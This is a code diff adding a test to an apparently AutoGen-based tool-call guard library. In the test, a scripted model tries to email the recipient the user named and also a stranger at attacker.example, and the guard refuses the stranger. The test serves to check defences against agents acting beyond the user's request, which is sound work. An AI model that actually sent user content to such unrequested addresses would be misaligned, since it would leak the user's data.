@@ -16,14 +16,17 @@ from _autogen_support import (
     assistant,
     call,
     guarded,
+    mailer,
     model,
     results_seen,
 )
 from _readme import ReadmeSection
+from _scenario import REQUEST_POLICY
 from autogen_agentchat.base import TaskResult
 from autogen_agentchat.conditions import MaxMessageTermination
 from autogen_agentchat.messages import ToolCallExecutionEvent
 from autogen_agentchat.teams import RoundRobinGroupChat
+from autogen_core.model_context import UnboundedChatCompletionContext
 from autogen_core.tools import StaticStreamWorkbench, StaticWorkbench, TextResultContent, ToolResult
 
 from callwarden import Approve, Deny, Guard
@@ -358,6 +361,23 @@ async def test_reset_clears_a_halt() -> None:
     await wb.reset()
     assert wb.halted is None
     assert (await wb.call_tool("read_file", {"path": "a"})).to_text() == "contents of a"
+
+
+async def test_the_users_latest_message_is_the_request_the_policy_sees() -> None:
+    """With the agent's model context, a recipient named in the task is allowed and a
+    stranger is refused."""
+    sent: list[str] = []
+    context = UnboundedChatCompletionContext()
+    client = model(asks(call("c1", "send_email", to="carol@example.org"),
+                        call("c2", "send_email", to="eve@attacker.example")), "Done.")
+    workbench = GuardedWorkbench(StaticStreamWorkbench([mailer(sent)]), REQUEST_POLICY,
+                                 model_context=context)
+    agent = assistant(workbench, client, model_context=context, reflect_on_tool_use=True)
+    await asyncio.wait_for(agent.run(task="Mail Carol@Example.org the notes"), TIMEOUT)
+    seen = results_seen(client)
+    assert sent == ["carol@example.org"]
+    assert (seen["c1"].content, seen["c1"].is_error) == ("sent to carol@example.org", False)
+    assert seen["c2"].is_error and seen["c2"].content == "Mail only people the user named."
 
 
 def test_only_a_workbench_can_be_guarded() -> None:
